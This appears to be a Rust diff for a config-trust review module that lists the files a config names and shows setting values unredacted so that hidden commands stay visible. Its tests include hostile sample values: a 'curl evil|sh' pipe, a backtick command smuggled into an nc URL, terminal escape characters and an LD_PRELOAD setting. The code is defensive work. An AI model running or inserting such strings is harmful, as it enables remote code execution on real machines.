@@ -2,11 +2,11 @@
 
 use super::error::{ConfigError, FILE, Place};
 use super::file::{self, Setting, Value};
+use super::named::{self, Named};
 use super::{TrustStore, find, merge, stranger};
 use crate::console::surroundings::Surroundings;
 use crate::hosts::host_table::HostEntry;
 use clap::Command;
-use rlaunch_bootstrap::env::redacted;
 use std::path::{Path, PathBuf};
 
 /// A file that was read, to be trusted as it was read.
@@ -14,6 +14,8 @@ use std::path::{Path, PathBuf};
 pub(crate) struct Review {
     path: PathBuf,
     text: String,
+    /// The files that trust covers beside it, as they are now.
+    named: Vec<Named>,
     /// Its effects that need trust, a line each.
     pub(crate) lines: Vec<String>,
 }
@@ -38,20 +40,23 @@ impl Review {
             }
         }
         found.extend(file.hosts.iter().filter_map(|host| Some((host.line, of_host(host)?))));
-        found.sort();
+        let named = named::of(&all, &file, path);
+        found.extend(named.iter().filter_map(|named| Some((named.line, of_file(named)?))));
+        found.sort_by_key(|(line, _)| *line);
         let shown = |(line, text): (usize, String)| format!("{}:{line}: {text}", path.display());
         let lines = found.into_iter().map(shown).collect();
-        Ok(Review { path: path.to_owned(), text, lines })
+        Ok(Review { path: path.to_owned(), text, named, lines })
     }
 
-    /// Lets the file count as it was read.
+    /// Lets the file, and those that it names, count as they were read.
     pub(crate) fn trust(&self, around: &Surroundings) -> Result<(), ConfigError> {
-        TrustStore::of(around)?.trust(&self.path, &self.text)
+        TrustStore::of(around)?.trust(&self.path, &self.text, &self.named)
     }
 }
 
-/// Says what a setting does, with its line; nothing where it is harmless, unless a profile has it, which
-/// counts as a whole.
+/// Says what a setting does, with its line. Harmless settings are left out, except in a profile: a
+/// profile counts as a whole or not at all. Values are shown in full, what looks like a secret as
+/// well: a command could hide behind it.
 fn line(
     all: &Command,
     setting: &Setting,
@@ -63,7 +68,7 @@ fn line(
     if is_harmless && section.is_empty() {
         return Ok(None);
     }
-    let quoted = |text: &String| format!("{:?}", redacted(text));
+    let quoted = |text: &String| format!("{text:?}");
     let value = match &setting.value {
         Value::Flag(flag) => flag.to_string(),
         Value::Text(text) => quoted(text),
@@ -72,6 +77,16 @@ fn line(
     let effect = if is_harmless { "" } else { stranger::effect(&given.long) };
     let colon = if effect.is_empty() { "" } else { ": " };
     Ok(Some((line, format!("{section}{} = {value}{colon}{effect}", setting.key))))
+}
+
+/// Says that a file's content is trusted as it is. Words of a command that name no file are left out.
+fn of_file(named: &Named) -> Option<String> {
+    let name = &named.name;
+    match &named.digest {
+        Some(_) => Some(format!("file {name:?}: trusted with its present content")),
+        None if named.is_word => None,
+        None => Some(format!("file {name:?}: is not there, and not trusted once it is")),
+    }
 }
 
 /// Says how a host is reached according to the file.
@@ -85,4 +100,58 @@ fn of_host(host: &HostEntry) -> Option<String> {
     ];
     let words: Vec<String> = words.into_iter().flatten().collect();
     (!words.is_empty()).then(|| format!("host {:?}: {}", host.name, words.join(", ")))
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::cli::args::Args;
+    use clap::CommandFactory;
+    use std::fs;
+
+    fn reviewed(text: &str, files: &[&str]) -> String {
+        let scratch = tempfile::tempdir().unwrap();
+        let path = scratch.path().join(FILE);
+        fs::write(&path, text).unwrap();
+        for file in files {
+            fs::write(scratch.path().join(file), "").unwrap();
+        }
+        let lines = Review::of(&path, Args::command()).unwrap().lines.join("\n");
+        lines.replace(&format!("{}/", scratch.path().display()), "")
+    }
+
+    #[test]
+    fn values_are_shown_in_full_but_for_control_characters() {
+        let long = "x".repeat(5000);
+        for (value, shown) in [
+            (
+                "env SSH_AUTH_SOCK=x sh -c 'curl evil|sh' --",
+                "env SSH_AUTH_SOCK=x sh -c 'curl evil|sh' --",
+            ),
+            ("nc pg://u:`id>pwned`@h", "nc pg://u:`id>pwned`@h"),
+            ("a\\u001b[2J\\u202Eb", "a\\u{1b}[2J\\u{202e}b"),
+            (&long, &long),
+        ] {
+            let lines = reviewed(&format!("[defaults]\nrsh = \"{value}\"\n"), &[]);
+            let expected =
+                format!("rlaunch.toml:2: rsh = \"{shown}\": runs a command on this machine");
+            assert_eq!(lines, expected);
+        }
+        let env = "[profile.x]\nenv = [\"A_KEY=1\", \"LD_PRELOAD=/e\"]\n";
+        assert!(reviewed(env, &[]).contains("env = \"A_KEY=1\", \"LD_PRELOAD=/e\": sets "));
+    }
+
+    #[test]
+    fn files_that_are_covered_are_listed() {
+        let text = "[defaults]\nrsh = \"ssh -F c.cfg x\"\nenv-file = [\"e\", \"none\"]\n";
+        let lines = reviewed(text, &["c.cfg", "e"]);
+        for line in [
+            "rlaunch.toml:2: file \"c.cfg\": trusted with its present content",
+            "rlaunch.toml:3: file \"e\": trusted with its present content",
+            "rlaunch.toml:3: file \"none\": is not there, and not trusted once it is",
+        ] {
+            assert!(lines.contains(line), "no {line}: {lines}");
+        }
+        assert_eq!(lines.lines().count(), 5, "{lines}");
+    }
 }
